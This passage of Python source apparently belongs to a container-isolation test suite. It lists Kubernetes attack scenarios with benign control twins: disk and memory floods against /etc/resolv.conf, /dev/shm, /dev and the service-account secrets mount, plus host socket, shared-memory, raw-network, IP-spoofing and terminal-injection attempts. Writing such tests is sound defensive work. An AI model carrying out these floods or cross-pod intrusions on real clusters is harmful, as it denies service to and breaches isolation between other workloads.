    Attack("floods", "resolver", "write 80 MiB to /etc/resolv.conf", FILL, Twin(env={"FILL": "$AIM/filled", "MIB": "1"}),
           env={"FILL": "/etc/resolv.conf", "MIB": "80"}),
    Attack("floods", "host-name", "write 80 MiB to /etc/hostname", FILL, Twin(env={"FILL": "$AIM/filled", "MIB": "1"}),
           env={"FILL": "/etc/hostname", "MIB": "80"}),
    Attack("floods", "shared-memory", "fill /dev/shm", SHARED_MEMORY, Twin("pod", change=volume(
        {"emptyDir": {"medium": "Memory", "sizeLimit": "400Mi"}}, mountPath="/dev/shm"))),
    Attack("floods", "memory-volume", "fill a volume in memory beyond its size", FILL,
           Twin("pod", change=volume({"emptyDir": {"medium": "Memory", "sizeLimit": "64Mi"}})),
           volume({"emptyDir": {"medium": "Memory", "sizeLimit": "4Mi"}}), env={"FILL": "/v/x", "MIB": "20"}),
    Attack("floods", "devices-folder", "fill /dev", FILL, Twin(env={"FILL": "$AIM/filled", "MIB": "1"}),
           env={"FILL": "/dev/x", "MIB": "20"}),
    Attack("floods", "own-root", "fill its own root", FILL, Twin(env={"FILL": "$AIM/filled", "MIB": "1"}),
           env={"FILL": "/tmp/x", "MIB": "600"}),
    Attack("floods", "secret-volume", "write to a volume of the node's memory", FILL,
           Twin("pod", change=volume(EMPTY, mountPath="/var/run/secrets/kubernetes.io/serviceaccount")),
           env={"FILL": "/var/run/secrets/kubernetes.io/serviceaccount/x", "MIB": "1"}),
)  # fmt: skip

SOCKETS = (
    Attack("sockets", "loopback", "reach a server on the host's loopback", CONNECT),
    Attack("sockets", "loopback-host-network", "the same, asking for hostNetwork", CONNECT, change=spec(hostNetwork=True)),
    Attack("sockets", "abstract", "reach an abstract socket of the host", ABSTRACT),
    Attack("sockets", "segment", "attach shared memory of the host", SEGMENT),
    Attack("sockets", "segment-host-ipc", "the same, asking for hostIPC", SEGMENT, change=spec(hostIPC=True)),
    Attack("sockets", "network", "change the own network", NETWORK, BARE),
    Attack("sockets", "network-as-net-raw", "the same with raw sockets", NETWORK, BARE,
           security(capabilities={"add": ["NET_RAW"]})),
    Attack("sockets", "spoof", "send in the name of another Pod", SPOOF, Twin("pod", env={"AS": "", "WORD": "$WORD-twin"}),
           env={"AS": "10.244.200.200", "WORD": "$WORD"}, look="sink"),
    Attack("sockets", "own-terminal", "type into a terminal that is not its own", TYPE_INTO, Twin("pod", change=TTY)),
)  # fmt: skip

FAMILIES = (ESCAPES, KERNEL, DEVICE_FILES, PROCESSES, FLOODS, SOCKETS)


def attacks() -> list[Attack]:
    """Return the whole corpus."""
    return [attack for family in FAMILIES for attack in family]
